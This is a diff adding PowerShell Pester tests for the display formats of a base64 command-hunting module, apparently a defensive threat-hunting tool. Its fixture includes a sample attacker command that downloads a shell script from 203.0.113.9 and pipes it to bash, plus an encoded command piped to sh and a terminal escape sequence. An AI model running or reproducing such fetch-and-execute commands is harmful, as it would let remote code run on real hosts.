@@ -1,0 +1,62 @@
+BeforeAll {
+    Import-Module $env:B64HUNT_MODULE -Force
+    $null = 'warm-up' | Measure-B64Score
+    $T0 = [datetime]::new(2024, 5, 1, 10, 0, 0, [DateTimeKind]::Utc)
+    $ti = [B64Hunt.Model.TiResult]@{ Provider = 'OTX'; Ioc = '203.0.113.9'; IocType = 'ipv4'; Severity = 'High'; Status = 'Ok'; Details = 'pulses: 3' }
+    $ioc = [B64Hunt.Model.Ioc]@{ Type = 'ipv4'; Value = '203.0.113[.]9'; Normalized = '203.0.113.9' }
+    $tag = [B64Hunt.Model.GtfoBinsTag]@{ Name = 'curl'; Functions = [string[]]@('download', 'upload'); Contexts = [string[]]@('unprivileged'); Url = 'https://gtfobins.github.io/gtfobins/curl/' }
+    $script:Event = [B64Hunt.Model.CommandEvent]@{
+        DecodedCommand = "curl http://203.0.113.9/x.sh | bash`nrm -f /tmp/x `e[2J"; CommandLine = 'echo Y3VybA== | base64 -d | sh'
+        Computer = 'web1'; TimeGenerated = $T0; EncodedText = 'Y3VybA=='
+    }
+    $Event.DecodeChain.Add('base64'); $Event.Iocs.Add($ioc); $Event.TiResults.Add($ti); $Event.GtfoBins.Add($tag)
+    $Event.Categories.Add('Network connections/Downloading'); $Event.Techniques.Add('T1105'); $Event.GtfoFunctions.Add('download')
+    $script:Alert = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1.contoso.com'; AlertName = 'Suspicious download'; Severity = 'High'; TimeGenerated = $T0.AddMinutes(5); Description = 'A file was downloaded'; Tactics = 'Execution' }
+    $script:Score = $Event | Measure-B64Score -Alert $Alert
+    $script:Ti = $ti; $script:Ioc = $ioc; $script:Tag = $tag
+
+    function script:Render($InputObject, [string] $As) {
+        $Error.Clear()
+        $text = if ($As -eq 'Table') { $InputObject | Format-Table | Out-String -Width 200 } else { $InputObject | Format-List | Out-String -Width 200 }
+        $Error | Should -BeNullOrEmpty
+        $text | Should -Not -Match "`e" -Because 'attacker text must not reach the terminal as escape sequences'
+        $text
+    }
+}
+
+Describe 'B64Hunt.Format.ps1xml views' {
+    It 'shows a CommandScore as a ranked row with a bar of its parts' {
+        # 1 (rare) + 3 (TI high) + 3 (alert high) = 7: 1 cell F, 3 cells S, 3 cells A, 3 empty.
+        $text = Render $Score 'Table'
+        $text | Should -Match 'Rank\s+TotalScore F░ S▓ A█\s+Freq\s+Sev\s+Alert\s+Count\s+Hosts\s+DecodedCommand'
+        $text | Should -Match '1\s+7[.,]00 ░▓▓▓███···\s+1[.,]00\s+3\s+3\s+1\s+1 curl http://203\.0\.113\.9/x\.sh \| bash⏎rm -f /tmp/x �\[2J'
+    }
+    It 'lists everything about a CommandScore' {
+        $text = Render $Score 'List'
+        foreach ($label in 'Rank', 'TotalScore', 'FreqScore', 'SevScore', 'AlertScore', 'CommandCount', 'TotalHosts', 'Hostnames', 'FirstSeen', 'LastSeen',
+            'Categories', 'Techniques', 'GtfoBins', 'GtfoFunctions', 'Iocs', 'TiResults', 'Alerts', 'Events', 'DecodedCommand') {
+            $text | Should -Match "(?m)^$label\s+:"
+        }
+        $text | Should -Match 'TiResults\s+: OTX:203\.0\.113\.9=High \(Ok\)'
+        $text | Should -Match 'Alerts\s+: web1\.contoso\.com Suspicious download \[High\]'
+        $text | Should -Match 'Iocs\s+: ipv4:203\.0\.113\.9'
+    }
+    It 'shows a CommandEvent as a row and a full list' {
+        $table = Render $Event 'Table'
+        $table | Should -Match '2024-05-01 10:00:00 web1\s+1 base64\s+curl http://203\.0\.113\.9/x\.sh \| bash⏎'
+        $list = Render $Event 'List'
+        foreach ($label in 'TimeGenerated', 'Computer', 'Account', 'Source', 'EventCount', 'Hostnames', 'DecodeChain', 'Categories', 'GtfoBins', 'Iocs', 'TiResults', 'CommandLine', 'EncodedText', 'DecodedCommand') {
+            $list | Should -Match "(?m)^$label\s+:"
+        }
+    }
+    It 'shows RelatedAlert, Ioc, TiResult and GtfoBinsTag as tables and lists' {
+        Render $Alert 'Table' | Should -Match '2024-05-01 10:05:00 web1\.contoso\.com\s+High\s+Suspicious download'
+        Render $Alert 'List' | Should -Match 'Description\s+: A file was downloaded'
+        Render $Ioc 'Table' | Should -Match 'ipv4\s+False\s+203\.0\.113\.9\s+203\.0\.113\[\.\]9'
+        Render $Ioc 'List' | Should -Match 'Normalized\s+: 203\.0\.113\.9'
+        Render $Ti 'Table' | Should -Match 'OTX\s+ipv4\s+High\s+Ok\s+False\s+203\.0\.113\.9\s+pulses: 3'
+        Render $Ti 'List' | Should -Match 'Status\s+: Ok'
+        Render $Tag 'Table' | Should -Match 'curl\s+download, upload\s+https://gtfobins'
+        Render $Tag 'List' | Should -Match 'Contexts\s+: unprivileged'
+    }
+}
